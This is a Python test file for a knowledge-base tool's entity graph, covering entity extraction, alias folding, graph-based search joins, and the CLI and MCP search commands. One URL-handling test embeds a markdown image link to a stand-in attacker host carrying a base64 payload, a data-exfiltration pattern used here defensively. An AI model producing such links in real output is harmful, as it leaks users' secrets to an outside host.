"""The entity graph and the graph leg (issue 9, "Entities" and "Graph leg").

Small real folders synced into real ``kb.db`` files, with joins known by construction:
the service → team fact in one document, the team → channel fact in another.
"""

from __future__ import annotations

import json
import pickle
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from kb_mcp.errors import InvalidInput
from kb_mcp.graph.extract import (
    EXTRACTOR_VERSION,
    MAX_MENTIONS,
    MAX_PAIRS,
    MAX_SURFACE,
    Mention,
    extract,
)
from kb_mcp.graph.resolve import best_fuzzy, entity_key
from kb_mcp.index.graph import ALIASES_KEPT, _aliases_json
from kb_mcp.library import Library
from kb_mcp.settings import Settings

SERVICE = """# Search platform

The Search Cluster is operated by Team Atlas since the spring reorganisation.
Capacity planning for the cluster happens every quarter.
"""
TEAM = """# Team directory

## Team Atlas

Team Atlas escalations go to #atlas-oncall, staffed around the clock.
"""
OTHER = """# Billing

The Billing Gateway belongs to Team Borealis; pages go to #borealis-pager.
"""
QUESTION = "which channel handles incidents for the Search Cluster"


def _library(home: Path, folder: Path, files: dict[str, str]) -> Library:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    library = Library(Settings(home=home, embedder="none"))
    library.folders.add_folder(folder)
    library.folders.sync()
    return library


@pytest.fixture
def joined(tmp_path: Path) -> Iterator[Library]:
    library = _library(
        tmp_path / "home",
        tmp_path / "notes",
        {"service.md": SERVICE, "team.md": TEAM, "billing.md": OTHER},
    )
    yield library
    library.close()


def _paths(result) -> list[str]:
    return [hit.path for hit in result.hits]


def test_graph_leg_answers_a_two_document_join_keyword_cannot(joined: Library) -> None:
    """issue 9 Done-when: a multi-hop question answered only through the graph: the
    channel is in team.md, which shares no word of the question with it."""
    keyword = joined.lookup.search(QUESTION, legs=["keyword"])
    assert "team.md" not in _paths(keyword)
    graph = joined.lookup.search(QUESTION, legs=["graph"])
    assert _paths(graph) == ["team.md", "service.md"]  # the join first: it is the news
    fused = joined.lookup.search(QUESTION, legs=["keyword", "graph"])
    team = next(h for h in fused.hits if h.path == "team.md")
    assert team.legs == ("graph",) and team.leg_scores["graph"] > 0
    assert "billing.md" not in _paths(graph)


def test_search_keyword_and_graph_legs_name_the_leg_that_found_each(joined: Library) -> None:
    """issue 9 Graph leg: fused with keyword; results say the graph found them."""
    result = joined.lookup.search(QUESTION, legs=["keyword", "graph"])
    assert result.mode == "keyword"
    legs = {hit.path: hit.legs for hit in result.hits}
    assert "graph" in legs["service.md"] and legs["team.md"] == ("graph",)


@pytest.mark.parametrize("mode", ["auto", "keyword"])
def test_search_modes_run_no_graph_leg_unless_named(joined: Library, mode: str) -> None:
    """issue 9: the graph leg is asked for by legs; no mode runs it by default yet
    (golden2 dev, see ``engine.GRAPH_MODES``)."""
    result = joined.lookup.search(QUESTION, mode=mode)
    assert all("graph" not in hit.legs for hit in result.hits)


@pytest.mark.parametrize(
    ("legs", "words"),
    [
        (["keyword", "graf"], "unknown search leg 'graf'"),
        ([], "no search leg named"),
        (["graph", "graph"], "named twice"),
    ],
)
def test_search_legs_invalid_is_refused_with_the_leg_named(
    joined: Library, legs: list[str], words: str
) -> None:
    """issue 9: ``--legs`` is validated with a clear error."""
    with pytest.raises(InvalidInput) as caught:
        joined.lookup.search(QUESTION, legs=legs)
    assert words in caught.value.message


def test_search_vector_leg_without_embedder_falls_back_with_reason(joined: Library) -> None:
    """issue 9: a named vector leg that cannot run is left out, and the result says so."""
    result = joined.lookup.search(QUESTION, legs=["vector", "graph"])
    assert result.fallback == "graph" and result.reason
    assert "team.md" in _paths(result)


def test_entity_key_folds_spellings_of_one_name() -> None:
    """issue 9 Entities: ``BlobStore``, ``blobstore`` and ``Blob Store`` are one entity."""
    keys = {
        entity_key(s) for s in ("BlobStore", "blobstore", "Blob Store", "blob_store", "blob-store")
    }
    assert keys == {"blobstore"}
    assert entity_key("v2.3.1") != entity_key("v23.1")
    assert entity_key("@alice") != entity_key("Alice")


def test_best_fuzzy_matches_a_typo_but_never_another_id() -> None:
    """issue 9: fuzzy resolution of a question's word; ids differ by digits, never merged."""
    assert best_fuzzy("blobstores", ["blobstore", "bloblist"]) == "blobstore"
    assert best_fuzzy("ops1043", ["ops1042"]) is None
    assert best_fuzzy("api", ["apis"]) is None


def test_aliases_resolve_to_one_entity_across_documents(tmp_path: Path) -> None:
    """issue 9 Entities: spellings across documents are one entity with its aliases."""
    library = _library(
        tmp_path / "home",
        tmp_path / "notes",
        {
            "a.md": "# Storage\n\nThe `BlobStore` class keeps uploads.\n",
            "b.md": "# Ops\n\nRestart the Blob Store nightly, says the runbook.\n",
            "c.md": "# Code\n\nSee blob_store.put for details; blob_store is thread safe.\n",
        },
    )
    with library:
        (view,) = [e for e in library.entities.find("blob store") if e.key == "blobstore"]
        assert view.kind == "code" and view.name == "BlobStore"
        assert {"BlobStore", "Blob Store", "blob_store"} <= set(view.aliases)
        assert view.mentions == 3
        found = library.lookup.search("Blob Store", legs=["graph"])
        assert sorted(_paths(found)) == ["a.md", "b.md", "c.md"]


def test_removing_a_document_removes_its_mentions_and_lonely_entities(tmp_path: Path) -> None:
    """issue 9: removing or replacing a document removes its mentions; entities no
    longer mentioned go, and their relations with them."""
    folder = tmp_path / "notes"
    library = _library(tmp_path / "home", folder, {"service.md": SERVICE, "team.md": TEAM})
    with library:
        assert library.entities.find("Search Cluster")[0].key == "searchcluster"
        (folder / "service.md").unlink()
        library.folders.sync()
        assert all(e.key != "searchcluster" for e in library.entities.find("Search Cluster"))
        atlas = next(e for e in library.entities.find("Team Atlas") if e.key == "teamatlas")
        assert atlas.mentions == 1 and "searchcluster" not in {n.key for n in atlas.neighbours}
        (folder / "team.md").write_text("# Team directory\n\nNothing here yet.\n", encoding="utf-8")
        library.folders.sync()
        entities, mentions, relations = library.graph.snapshot()
        assert all(e[0] != "teamatlas" for e in entities)
        assert all(m[1] for m in mentions) and not relations


def test_rebuild_gives_the_same_graph_as_incremental_ingest(tmp_path: Path) -> None:
    """issue 9: the graph is derived data; ``reindex --rebuild`` rebuilds it exactly,
    whatever order documents arrived and left in."""
    folder = tmp_path / "notes"
    library = _library(tmp_path / "home", folder, {"team.md": TEAM, "billing.md": OTHER})
    with library:
        (folder / "service.md").write_text(SERVICE, encoding="utf-8")
        (folder / "zz.md").write_text("# Storage\n\nThe `BlobStore` and Team Atlas.\n")
        library.folders.sync()
        (folder / "billing.md").unlink()
        library.folders.sync()
        before = library.graph.snapshot()
        assert before[0] and before[1] and before[2]
        library.writing.reindex(rebuild=True)
        assert library.graph.snapshot() == before


def test_aliases_of_an_entity_mentioned_again_equal_a_rebuild_whatever_their_spelling(
    tmp_path: Path,
) -> None:
    """issue 10 (ingest speed): an entity mentioned again is checked against its stored
    aliases without parsing them (``graph._all_listed``); spellings holding ``", "``, a
    quote or a backslash take the slow path, and the aliases, names and counts left
    after each later sync are what a rebuild gives."""
    spellings = ["`run(a, b)`", '`say "hi"`', "`C:\\temp`", "`plain_name`"]
    folder = tmp_path / "notes"
    text = "# Calls\n\nWe use " + " and ".join(spellings) + ".\n"
    library = _library(tmp_path / "home", folder, {"a.md": text})
    with library:
        (folder / "b.md").write_text(text + "\nAgain: " + spellings[0] + ".\n")
        library.folders.sync()
        (folder / "c.md").write_text("# More\n\n`Run(a, B)` and " + spellings[1] + ".\n")
        library.folders.sync()
        before = library.graph.snapshot()
        aliases = {json.dumps(json.loads(e[3])) for e in before[0]}
        assert any("run(a, b)" in a.lower() for a in aliases)
        library.writing.reindex(rebuild=True)
        assert library.graph.snapshot() == before


def test_cjk_terms_are_entities_and_seed_the_graph(tmp_path: Path) -> None:
    """issue 9: CJK terms (headings, bold, quotes) are entities; a CJK question's
    sub-runs resolve to them."""
    library = _library(
        tmp_path / "home",
        tmp_path / "notes",
        {
            "zh.md": "# 搜索集群\n\n由「阿特拉斯团队」负责运维。\n",
            "team.md": "# 阿特拉斯团队\n\n值班频道是 #atlas-oncall 。\n",
        },
    )
    with library:
        assert library.entities.find("搜索集群")[0].kind in {"term", "cjk"}
        found = library.lookup.search("搜索集群的值班频道", legs=["graph"])
        assert sorted(_paths(found)) == ["team.md", "zh.md"]


def test_extract_bounds_hostile_chunks() -> None:
    """issue 9: huge identifiers are no entity, a 10k-entity chunk keeps the capped
    number, and it stays fast."""
    huge = "x" * 5_000 + "Id"
    assert extract(f"the `{huge}` and {huge}_tail").mentions == []
    many = " ".join(f"Service{i}Handler" for i in range(10_000))
    started = time.perf_counter()
    found = extract(many).mentions
    assert len(found) == MAX_MENTIONS
    assert time.perf_counter() - started < 2.0
    assert all(len(m.surface) <= MAX_SURFACE for m in found)


def test_extract_takes_nothing_from_inside_a_url() -> None:
    """issue 11: a URL's host, path and query are no entities; an exfiltration link's
    payload (``?d=<base64>``), which output redaction removes with the link, must not
    survive as an entity name. Names beside the link still count."""
    text = (
        "The BlobStore docs live at https://Docs.Example.com/BlobStore/put_blob?ref=v2.3.1 "
        "and ![](https://evil.example/pixel.png?d=aGVsbG8gU2VjcmV0VG9rZW4_dmFsdWU) "
        "per OPS-1042, owned by Team Atlas.\n"
    )
    surfaces = {m.surface for m in extract(text).mentions}
    assert {"BlobStore", "OPS-1042", "Team Atlas"} <= surfaces
    assert not {s for s in surfaces if "aGVsbG8" in s or "Example" in s or "evil" in s}
    assert "put_blob" not in surfaces and "v2.3.1" not in surfaces


def test_extract_finds_the_kinds_the_issue_lists() -> None:
    """issue 9 Entities: code identifiers, names, @handles, ids, versions, tags, headings."""
    text = (
        "Team Atlas fixed OPS-1042 (see ADR-0012, #123) in v2.3.1; ping @alice-ops or "
        "#atlas-oncall. Run `kb-mcp search` and call make_index() on the BlobStore, "
        "configured by `search.timeout_ms` in config.toml.\n"
    )
    kinds = {m.surface: m.kind for m in extract(text, ["Operations guide"]).mentions}
    assert kinds["Team Atlas"] == "name"
    assert kinds["OPS-1042"] == kinds["ADR-0012"] == kinds["#123"] == "id"
    assert kinds["v2.3.1"] == "version" and kinds["@alice-ops"] == "handle"
    assert kinds["#atlas-oncall"] == "tag"
    assert kinds["kb-mcp search"] == kinds["make_index"] == kinds["BlobStore"] == "code"
    assert kinds["search.timeout_ms"] == kinds["config.toml"] == "code"
    assert kinds["Operations guide"] == "term"


def test_entities_view_lists_mentions_as_cites_and_neighbours(joined: Library) -> None:
    """issue 9: ``entities QUERY``: kind, mention count, top mentions as cites, neighbours."""
    (atlas, *_) = joined.entities.find("team atlas")
    assert atlas.name == "Team Atlas" and atlas.mentions == 2
    assert {c.split("#")[1] for c in atlas.cites} and len(atlas.cites) == 2
    neighbours = {n.key: n.weight for n in atlas.neighbours}
    assert neighbours["searchcluster"] == 1
    assert joined.lookup.read(atlas.cites[0]).text
    assert json.dumps([n.weight for n in atlas.neighbours])


def test_cli_entities_and_search_legs(tmp_path: Path, kb_cli) -> None:
    """issue 9: ``kb-mcp entities QUERY --json`` and ``kb-mcp search --legs`` through the
    real command; a bad leg is exit code 2 with the leg named, nothing changed."""
    folder = tmp_path / "notes"
    folder.mkdir()
    (folder / "service.md").write_text(SERVICE, encoding="utf-8")
    (folder / "team.md").write_text(TEAM, encoding="utf-8")
    assert kb_cli("add", str(folder), "--yes").returncode == 0
    listed = kb_cli("entities", "Team Atlas", "--json")
    assert listed.returncode == 0, listed.stderr
    (first, *_) = json.loads(listed.stdout)
    assert first["name"] == "Team Atlas" and first["mentions"] == 2
    assert {n["key"] for n in first["neighbours"]} >= {"searchcluster", "#atlasoncall"}
    text = kb_cli("entities", "atlas")
    assert "Team Atlas  (name, 2 mention(s)" in text.stdout and "neighbours:" in text.stdout
    found = kb_cli("search", QUESTION, "--legs", "graph", "--json")
    assert found.returncode == 0, found.stderr
    assert [r["path"] for r in json.loads(found.stdout)["results"]] == ["team.md", "service.md"]
    bad = kb_cli("search", QUESTION, "--legs", "keyword,graf")
    assert bad.returncode == 2 and "unknown search leg 'graf'" in bad.stderr
    assert "Traceback" not in bad.stderr


@pytest.mark.anyio
async def test_mcp_search_legs_argument_runs_the_graph_leg(mcp_client, tmp_path: Path) -> None:
    """issue 9: the MCP search tool takes ``legs`` like the CLI; the graph finds the join
    (once the server's linking thread has recorded the documents' entities: issue 22)."""
    import time

    import anyio

    async with mcp_client(allow_agent_writes=True) as client:
        for uri, text in (("kb://service", SERVICE), ("kb://team", TEAM)):
            await client.call_tool(
                "add_document", {"title": uri[5:], "content": text, "source_uri": uri}
            )
        deadline = time.monotonic() + 60
        while True:
            listed = await client.call_tool("list", {})
            if "entities_and_relations=current" in listed.content[0].text:
                break
            assert time.monotonic() < deadline, listed.content[0].text
            await anyio.sleep(0.1)
        result = await client.call_tool("search", {"query": QUESTION, "legs": ["graph"]})
        hits = result.structured_content["results"]
        assert [h["path"] for h in hits] == ["kb://team", "kb://service"]
        assert all(h["legs"] == ["graph"] for h in hits)


# A realistic chunk touching every kind the extractor knows, and a source-file chunk.
# Their extraction is pinned whole (keys, spellings, kinds, weights, pairs): a change made
# for speed must leave it exactly so; a change in what is extracted bumps
# ``EXTRACTOR_VERSION`` and these lists on purpose (issue 9, ingest cost).
PINNED_PROSE = """Incident OPS-1042 hit the Search Cluster on Tuesday; Team Atlas owns it.

- The `kb-mcp sync` command rebuilt the index after ADR-0012 landed in v2.3.1.
- @alice paged #atlas-oncall and filed #4217 against the tap-gateway service.
- Config key `search.max_results` and the env var KB_MCP_HOME were both wrong.

| system | owner |
| BlobStore | Team Borealis |

The **Blob Store** cache (see blob_store.flush and getUser) runs on AWS under the
SRE rota. 相关术语见「检索集群」与【向量索引】。

def rebuild_index(conn):
    pass
"""
PINNED_PROSE_HEADINGS = ["Postmortem", "Search Cluster outage"]
PINNED_PROSE_MENTIONS = [
    ("blobstore", "BlobStore", "code", 3.579),
    ("rebuildindex", "rebuild_index", "code", 2.54),
    ("search.maxresults", "search.max_results", "code", 2.54),
    ("#4217", "#4217", "id", 2.0),
    ("@alice", "@alice", "handle", 2.0),
    ("adr0012", "ADR-0012", "id", 2.0),
    ("ops1042", "OPS-1042", "id", 2.0),
    ("postmortem", "Postmortem", "term", 2.0),
    ("searchclusteroutage", "Search Cluster outage", "term", 2.0),
    ("#atlasoncall", "#atlas-oncall", "tag", 1.5),
    ("atlasoncall", "atlas-oncall", "code", 1.5),
    ("blobstore.flush", "blob_store.flush", "code", 1.5),
    ("getuser", "getUser", "code", 1.5),
    ("kbmcp", "kb-mcp", "code", 1.5),
    ("kbmcphome", "KB_MCP_HOME", "code", 1.5),
    ("kbmcpsync", "kb-mcp sync", "code", 1.5),
    ("maxresults", "max_results", "code", 1.5),
    ("tapgateway", "tap-gateway", "code", 1.5),
    ("v2.3.1", "v2.3.1", "version", 1.5),
    ("aws", "AWS", "acronym", 1.0),
    ("searchcluster", "Search Cluster", "name", 1.0),
    ("sre", "SRE", "acronym", 1.0),
    ("teamatlas", "Team Atlas", "name", 1.0),
    ("teamborealis", "Team Borealis", "name", 1.0),
    ("tuesday", "Tuesday", "name", 1.0),
    ("向量索引", "向量索引", "cjk", 1.0),
    ("检索集群", "检索集群", "cjk", 1.0),
]
PINNED_PROSE_PAIRS = [
    ("#4217", "#atlasoncall"),
    ("#4217", "@alice"),
    ("#4217", "atlasoncall"),
    ("#4217", "postmortem"),
    ("#4217", "searchclusteroutage"),
    ("#4217", "tapgateway"),
    ("#atlasoncall", "@alice"),
    ("#atlasoncall", "atlasoncall"),
    ("#atlasoncall", "postmortem"),
    ("#atlasoncall", "searchclusteroutage"),
    ("#atlasoncall", "tapgateway"),
    ("@alice", "atlasoncall"),
    ("@alice", "postmortem"),
    ("@alice", "searchclusteroutage"),
    ("@alice", "tapgateway"),
    ("adr0012", "kbmcp"),
    ("adr0012", "kbmcpsync"),
    ("adr0012", "postmortem"),
    ("adr0012", "searchclusteroutage"),
    ("adr0012", "v2.3.1"),
    ("atlasoncall", "postmortem"),
    ("atlasoncall", "searchclusteroutage"),
    ("atlasoncall", "tapgateway"),
    ("aws", "blobstore"),
    ("aws", "blobstore.flush"),
    ("aws", "getuser"),
    ("blobstore", "blobstore.flush"),
    ("blobstore", "getuser"),
    ("blobstore", "postmortem"),
    ("blobstore", "searchclusteroutage"),
    ("blobstore", "sre"),
    ("blobstore", "teamborealis"),
    ("blobstore", "向量索引"),
    ("blobstore", "检索集群"),
    ("blobstore.flush", "getuser"),
    ("blobstore.flush", "postmortem"),
    ("blobstore.flush", "searchclusteroutage"),
    ("getuser", "postmortem"),
    ("getuser", "searchclusteroutage"),
    ("kbmcp", "kbmcpsync"),
    ("kbmcp", "postmortem"),
    ("kbmcp", "searchclusteroutage"),
    ("kbmcp", "v2.3.1"),
    ("kbmcphome", "maxresults"),
    ("kbmcphome", "postmortem"),
    ("kbmcphome", "search.maxresults"),
    ("kbmcphome", "searchclusteroutage"),
    ("kbmcpsync", "postmortem"),
    ("kbmcpsync", "searchclusteroutage"),
    ("maxresults", "postmortem"),
    ("maxresults", "search.maxresults"),
    ("maxresults", "searchclusteroutage"),
    ("ops1042", "postmortem"),
    ("ops1042", "searchcluster"),
    ("ops1042", "searchclusteroutage"),
    ("ops1042", "teamatlas"),
    ("ops1042", "tuesday"),
    ("postmortem", "rebuildindex"),
    ("postmortem", "search.maxresults"),
    ("postmortem", "searchclusteroutage"),
    ("postmortem", "tapgateway"),
    ("rebuildindex", "searchclusteroutage"),
    ("search.maxresults", "searchclusteroutage"),
    ("searchclusteroutage", "tapgateway"),
]
PINNED_CODE = '''"""Blob storage (see ADR-0012, since v2.3.1)."""
import kb_mcp.store.db
from os.path import join

class BlobStore:
    def put_blob(self, key):
        return kb_mcp.store.db.write(join(self.root, key))
'''
PINNED_CODE_MENTIONS = [
    ("adr0012", "ADR-0012", "id", 2.0),
    ("blob.py", "blob.py", "term", 2.0),
    ("blobstore", "BlobStore", "code", 1.5),
    ("kbmcp.store.db", "kb_mcp.store.db", "code", 1.5),
    ("kbmcp.store.db.write", "kb_mcp.store.db.write", "code", 1.5),
    ("os.path", "os.path", "code", 1.5),
    ("putblob", "put_blob", "code", 1.5),
    ("self.root", "self.root", "code", 1.5),
    ("v2.3.1", "v2.3.1", "version", 1.5),
]
PINNED_CODE_PAIRS = [
    ("adr0012", "blob.py"),
    ("adr0012", "kbmcp.store.db"),
    ("adr0012", "os.path"),
    ("adr0012", "v2.3.1"),
    ("blob.py", "blobstore"),
    ("blob.py", "kbmcp.store.db"),
    ("blob.py", "kbmcp.store.db.write"),
    ("blob.py", "os.path"),
    ("blob.py", "putblob"),
    ("blob.py", "self.root"),
    ("blob.py", "v2.3.1"),
    ("blobstore", "kbmcp.store.db.write"),
    ("blobstore", "putblob"),
    ("blobstore", "self.root"),
    ("kbmcp.store.db", "os.path"),
    ("kbmcp.store.db", "v2.3.1"),
    ("kbmcp.store.db.write", "putblob"),
    ("kbmcp.store.db.write", "self.root"),
    ("os.path", "v2.3.1"),
    ("putblob", "self.root"),
]


def test_extract_output_is_pinned_on_a_realistic_chunk() -> None:
    """issue 9 Done-when (ingest cost): the speed-ups keep what is extracted exactly;
    the pairs are at ``MAX_PAIRS``, so the cut-off order is pinned too."""
    found = extract(PINNED_PROSE, PINNED_PROSE_HEADINGS)
    assert [(m.key, m.surface, m.kind, m.weight) for m in found.mentions] == PINNED_PROSE_MENTIONS
    assert found.pairs == PINNED_PROSE_PAIRS
    assert len(found.pairs) == MAX_PAIRS
    assert EXTRACTOR_VERSION == "heuristic 5"  # bump with the lists above, never alone


def test_extract_output_is_pinned_on_a_source_file_chunk() -> None:
    """issue 9 Done-when (ingest cost): a code chunk keeps definitions, dotted names,
    ids and versions, and nothing else, exactly as pinned."""
    found = extract(PINNED_CODE, ["blob.py"], code=True)
    assert [(m.key, m.surface, m.kind, m.weight) for m in found.mentions] == PINNED_CODE_MENTIONS
    assert found.pairs == PINNED_CODE_PAIRS


def test_extract_result_pickles_back_to_the_same_mentions_and_pairs() -> None:
    """issue 9 Done-when (ingest cost): a reader process's extraction reaches the writer
    pickled as plain tuples (``Extraction.__reduce__``) and comes back equal, as
    ``Mention`` values whose fields read by name."""
    found = extract(PINNED_PROSE, PINNED_PROSE_HEADINGS)
    back = pickle.loads(pickle.dumps(found, protocol=pickle.HIGHEST_PROTOCOL))
    assert back == found and back.pairs == PINNED_PROSE_PAIRS
    assert all(type(m) is Mention for m in back.mentions)
    assert [(m.key, m.surface, m.kind, m.weight) for m in back.mentions] == PINNED_PROSE_MENTIONS


def test_graph_aliases_text_is_what_json_dumps_writes() -> None:
    """issue 9 (ingest cost): the entities' ``aliases`` column, written without an
    encoder per entity, is the text ``json.dumps`` gives (quotes, backslashes, control
    and non-ASCII characters), so stored graphs compare equal whichever path wrote them."""
    spellings = ['Blob "Store"', "blob\\store", "Blöb\nStore", "ブロブ", "\u2028x", "z" * 3]
    spellings += [f"s{i:02d}" for i in range(20)]
    expected = json.dumps(sorted(spellings)[:ALIASES_KEPT], ensure_ascii=False)
    assert _aliases_json(spellings) == expected
    assert json.loads(_aliases_json(["only"])) == ["only"]
